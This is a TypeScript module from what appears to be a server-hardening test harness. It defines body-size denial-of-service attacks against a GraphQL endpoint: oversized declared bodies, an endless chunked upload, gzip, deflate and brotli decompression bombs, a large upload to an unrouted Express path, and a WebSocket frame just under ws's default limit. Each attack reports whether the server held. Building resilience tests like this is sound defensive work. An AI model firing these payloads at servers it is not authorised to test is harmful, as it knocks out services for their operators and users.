import type { Transform } from 'node:stream';
import { constants, createBrotliCompress, createDeflate, gzipSync } from 'node:zlib';
import type { Attack, AttackOutcome } from './types';
import { type Upload, upload } from './stream';
import { exchange, hasResponseHead, requestHead, statusOf, upgradeRequest, zeroMaskedFrameStart } from './wire';

const MB = 1 << 20;
/** A server may read this much of a body it will refuse; one that reads on past it reads without a bound. */
export const BODY_READ_BOUND = 16 * MB;
/** Bytes the kernel's buffers can hold for a server that stopped reading: sent beyond the bound before judging. */
const SOCKET_SLACK = 8 * MB;
/** What a compressed bomb inflates to. */
const inflatedSize = (encoding: string) => (encoding === 'deflate' ? '256 MB' : '1 GB');

/** A piece of an endless JSON string: the body stays a valid JSON prefix however far a server reads. */
const piece = Buffer.alloc(64 * 1024, 'a');
const jsonStart = '{"query":"{ __typename }","variables":{"x":"';
const jsonEnd = '"}}';

const verdictOfUpload = (sent: Upload): AttackOutcome => {
  const mb = (sent.bytesOut / MB).toFixed(1);
  if (sent.bytesAfterAnswer !== null) {
    const answered = `answered ${statusOf(sent.head) ?? 'bytes'} after ${((sent.bytesOut - sent.bytesAfterAnswer) / MB).toFixed(1)} MB`;
    if (sent.closed) return { held: true, detail: `${answered}, then closed` };
    if (sent.stalled) return { held: true, detail: `${answered}, then stopped reading` };
    return {
      held: false,
      detail: `${answered}, then read ${(sent.bytesAfterAnswer / MB).toFixed(1)} MB more of the body it refused (bound ${BODY_READ_BOUND / MB} MB)`,
    };
  }
  if (sent.answered) return { held: true, detail: `answered ${statusOf(sent.head) ?? 'bytes'} after ${mb} MB` };
  if (sent.closed) return { held: true, detail: `closed after ${mb} MB` };
  if (sent.stalled) return { held: true, detail: `stopped reading at ${mb} MB` };
  return { held: false, detail: `read ${mb} MB without answering (bound ${BODY_READ_BOUND / MB} MB)` };
};

/** A path no page's server serves: its body meets whatever the server does with unknown paths. */
const OTHER_PATH = '/no-such-path';

// No `Connection: close`: on a kept-alive connection, Node reads the rest of a body its server
// refused unless the refusal closes the connection, so the upload goes on after the answer.
const postHead = (path: string, headers: readonly string[]) =>
  Buffer.from(
    requestHead(`POST ${path} HTTP/1.1`, ['Content-Type: application/json', ...headers]) + jsonStart,
    'latin1',
  );

/** Run-length encoding: the bombs are one long run, and this strategy makes them fastest. */
const RUNS = { level: 9, strategy: constants.Z_RLE };

/** The compressed bombs, made once per process (the 256 MB deflate stream takes a few tenths of a second). */
const bombs = new Map<string, Buffer>();

/** Compresses the JSON start, `blocks` times the block, and the JSON end, as one stream. */
async function compressedStream(compressor: Transform, block: Buffer, blocks: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  compressor.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => compressor.on('end', resolve));
  compressor.write(jsonStart);
  for (let index = 0; index < blocks; index++) compressor.write(block);
  compressor.end(jsonEnd);
  await ended;
  return Buffer.concat(chunks);
}

/** A body in this encoding that inflates to a JSON request with a string of about 1 GB (deflate: 256 MB). */
async function bombOf(encoding: 'gzip' | 'deflate' | 'br'): Promise<Buffer> {
  const made = bombs.get(encoding);
  if (made) return made;
  const block = Buffer.alloc(16 * MB, 'a');
  const bomb =
    encoding === 'gzip'
      ? // A gzip body may hold several members, inflated one after the other (RFC 1952, 2.2): one made, sent 64 times.
        Buffer.concat([gzipSync(jsonStart), ...Array<Buffer>(64).fill(gzipSync(block, RUNS)), gzipSync(jsonEnd)])
      : encoding === 'br'
        ? await compressedStream(createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }), block, 64)
        : await compressedStream(createDeflate(RUNS), block, 16);
  bombs.set(encoding, bomb);
  return bomb;
}

const compressedBomb = (encoding: 'gzip' | 'deflate' | 'br'): Attack => ({
  name: `body-${encoding === 'br' ? 'brotli' : encoding}-bomb`,
  family: 'body-size',
  run: async ({ target, from }) => {
    const body = await bombOf(encoding);
    const head = requestHead(`POST ${target.graphqlPath} HTTP/1.1`, [
      ...target.headers,
      'Content-Type: application/json',
      `Content-Encoding: ${encoding}`,
      `Content-Length: ${body.length}`,
      'Connection: close',
    ]);
    const answer = await exchange({
      port: target.port,
      from,
      request: Buffer.concat([Buffer.from(head, 'latin1'), body]),
      timeoutMs: 5000,
      until: hasResponseHead,
    });
    if (answer.timedOut)
      return {
        held: false,
        detail: `no answer within 5 s to ${body.length} bytes inflating to ${inflatedSize(encoding)}`,
      };
    return { held: true, detail: answer.closed && !answer.head ? 'closed' : `answered ${statusOf(answer.head)}` };
  },
});

/** Bodies bigger than any server should read: declared, chunked without end, compressed, and a WebSocket frame under ws's default. */
export const bodySizeAttacks: Attack[] = [
  {
    name: 'body-declared-600mb',
    family: 'body-size',
    run: async ({ target, from }) =>
      verdictOfUpload(
        await upload({
          port: target.port,
          from,
          start: postHead(target.graphqlPath, [...target.headers, `Content-Length: ${600 * MB}`]),
          piece,
          maxBytesOut: BODY_READ_BOUND + SOCKET_SLACK,
          sendOnAfterAnswer: true,
        }),
      ),
  },
  {
    // Express 5 answers a path no route takes only after reading the request's body to its end:
    // a body limit on the GraphQL route alone leaves every other path reading without a bound.
    name: 'body-declared-600mb-other-path',
    family: 'body-size',
    run: async ({ target, from }) =>
      verdictOfUpload(
        await upload({
          port: target.port,
          from,
          start: postHead(OTHER_PATH, [...target.headers, `Content-Length: ${600 * MB}`]),
          piece,
          maxBytesOut: BODY_READ_BOUND + SOCKET_SLACK,
          sendOnAfterAnswer: true,
        }),
      ),
  },
  {
    name: 'body-chunked-endless',
    family: 'body-size',
    run: async ({ target, from }) => {
      const chunk = Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n')]);
      const head = requestHead(`POST ${target.graphqlPath} HTTP/1.1`, [
        ...target.headers,
        'Content-Type: application/json',
        'Transfer-Encoding: chunked',
      ]);
      return verdictOfUpload(
        await upload({
          port: target.port,
          from,
          start: Buffer.from(`${head}${jsonStart.length.toString(16)}\r\n${jsonStart}\r\n`, 'latin1'),
          piece: chunk,
          maxBytesOut: BODY_READ_BOUND + SOCKET_SLACK,
          sendOnAfterAnswer: true,
        }),
      );
    },
  },
  compressedBomb('gzip'),
  compressedBomb('deflate'),
  compressedBomb('br'),
  {
    // ws reads a message up to its maxPayload, 100 MiB unless the server sets it: a frame just
    // under that default is read whole by a server that relies on it.
    name: 'ws-frame-99mib',
    family: 'body-size',
    run: async ({ target, from }) => {
      const start = Buffer.concat([
        Buffer.from(upgradeRequest(target.graphqlPath, target.headers), 'latin1'),
        zeroMaskedFrameStart(99 * MB),
      ]);
      const sent = await upload({
        port: target.port,
        from,
        start,
        piece,
        maxBytesOut: BODY_READ_BOUND + SOCKET_SLACK,
        skipHead: true,
      });
      return verdictOfUpload(sent);
    },
  },
];
